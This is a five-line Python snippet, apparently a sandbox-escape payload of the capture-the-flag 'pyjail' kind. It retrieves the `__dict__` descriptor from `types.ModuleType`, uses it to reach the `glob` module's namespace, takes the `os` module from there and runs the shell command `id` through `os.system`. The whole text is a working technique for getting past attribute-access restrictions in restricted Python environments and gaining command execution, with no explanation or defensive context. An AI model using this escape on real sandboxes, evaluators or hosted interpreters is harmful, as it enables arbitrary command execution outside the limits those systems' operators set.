import glob
import types

namespace_of = vars(types.ModuleType)["__dict__"].__get__
helpers = namespace_of(glob)
helpers["os"].system("id")
